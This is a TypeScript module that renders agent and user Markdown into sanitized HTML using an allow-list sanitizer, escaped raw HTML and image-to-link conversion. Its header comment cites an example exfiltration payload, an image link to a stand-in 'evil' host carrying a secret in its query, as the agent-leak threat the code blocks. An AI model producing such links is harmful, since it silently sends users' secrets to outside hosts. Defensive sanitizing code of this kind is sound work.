// Markdown from agents (and users) to HTML that is safe to put in the page.
//
// Three layers, each enough on its own for the common attacks:
//  1. marked parses GitHub-flavoured Markdown; its raw-HTML tokens (blocks
//     and inline tags) are rendered as escaped text, never as markup.
//  2. Images are never loaded: an agent that read a secret could otherwise
//     leak it with ![](https://evil/?q=secret) without anyone clicking. An
//     image becomes a link to its address (shown only if http(s)).
//  3. DOMPurify sanitizes the result with a strict allow-list of tags and
//     attributes; links keep only http(s)/mailto addresses and always open
//     in a new tab with rel="noopener noreferrer nofollow".
// Code blocks are highlighted by lib/highlight (highlight.js).
import DOMPurify from 'dompurify';
import { Marked, type Tokens } from 'marked';
import { escapeHTML, highlightCode } from './highlight';

/** The schemes a link may use; anything else (javascript:, data:, relative paths into the shell) loses its href. */
const SAFE_URL = /^(?:https?:|mailto:)/i;

const ALLOWED_TAGS = [
  'p', 'br', 'hr', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'strong', 'em', 'del', 'code', 'pre', 'span', 'blockquote',
  'ul', 'ol', 'li', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'a',
];
const ALLOWED_ATTR = ['href', 'title', 'class', 'align', 'start'];
// Attributes that are not addresses: DOMPurify would otherwise test their
// values against SAFE_URL too, and drop them.
const URI_SAFE_ATTR = ['align', 'start'];

// Only class names this module writes survive: hljs token classes and ours.
const SAFE_CLASS = /^(?:code|hljs(?:-[\w-]+)?|language-[\w+#.-]+|md-(?:image|raw|task|task--done)|\w+_)$/;

const purify = DOMPurify();
purify.addHook('uponSanitizeAttribute', (_node, data) => {
  if (data.attrName === 'class') {
    data.attrValue = data.attrValue
      .split(/\s+/)
      .filter((cls) => SAFE_CLASS.test(cls))
      .join(' ');
  }
});
purify.addHook('afterSanitizeAttributes', (node) => {
  if (node.tagName !== 'A') return;
  const href = node.getAttribute('href');
  if (href === null || !SAFE_URL.test(href.trim())) {
    node.removeAttribute('href');
    return;
  }
  node.setAttribute('target', '_blank');
  node.setAttribute('rel', 'noopener noreferrer nofollow');
});

const marked = new Marked({
  gfm: true,
  breaks: true,
  renderer: {
    // Raw HTML from the source is shown as the text it is.
    html(token: Tokens.HTML | Tokens.Tag) {
      const text = escapeHTML(token.text);
      return 'block' in token && token.block ? `<p class="md-raw">${text.replace(/\n+$/, '')}</p>\n` : text;
    },
    code({ text, lang }: Tokens.Code) {
      const name = (lang ?? '').trim().split(/\s+/)[0]!.toLowerCase();
      const h = highlightCode(text.replace(/\n$/, ''), name);
      const cls = h.lang ? ` class="hljs language-${escapeHTML(h.lang)}"` : ' class="hljs"';
      return `<pre class="code"><code${cls}>${h.html}</code></pre>\n`;
    },
    image({ href, text }: Tokens.Image) {
      const label = escapeHTML(text || href);
      if (!SAFE_URL.test(href) || href.toLowerCase().startsWith('mailto:')) return `<span class="md-image">${label}</span>`;
      return `<a class="md-image" href="${escapeHTML(href)}">${label}</a>`;
    },
    checkbox({ checked }: Tokens.Checkbox) {
      return checked ? '<span class="md-task md-task--done">☑</span> ' : '<span class="md-task">☐</span> ';
    },
  },
});

const cache = new Map<string, string>();
/** How many rendered texts are kept; a session switch re-renders from here, not from scratch. */
const CACHE_SIZE = 500;

/** sanitize cleans HTML with the shell's allow-list (exported so tests can check the sanitizer on its own). */
export function sanitize(html: string): string {
  return purify.sanitize(html, { ALLOWED_TAGS, ALLOWED_ATTR, ALLOWED_URI_REGEXP: SAFE_URL, ADD_URI_SAFE_ATTR: URI_SAFE_ATTR, ALLOW_DATA_ATTR: false });
}

/**
 * renderMarkdown turns Markdown into sanitized HTML. Partial input while a
 * message streams (an unclosed code fence, half a table) renders as far as
 * it goes; a parser failure falls back to the escaped text.
 */
export function renderMarkdown(text: string): string {
  const hit = cache.get(text);
  if (hit !== undefined) {
    cache.delete(text);
    cache.set(text, hit); // most recently used last
    return hit;
  }
  let html: string;
  try {
    // Without a DOM DOMPurify cannot clean anything: fail closed.
    if (!purify.isSupported) throw new Error('no DOM to sanitize with');
    html = sanitize(marked.parse(text, { async: false }));
  } catch {
    html = `<p>${escapeHTML(text)}</p>`;
  }
  cache.set(text, html);
  if (cache.size > CACHE_SIZE) cache.delete(cache.keys().next().value!);
  return html;
}
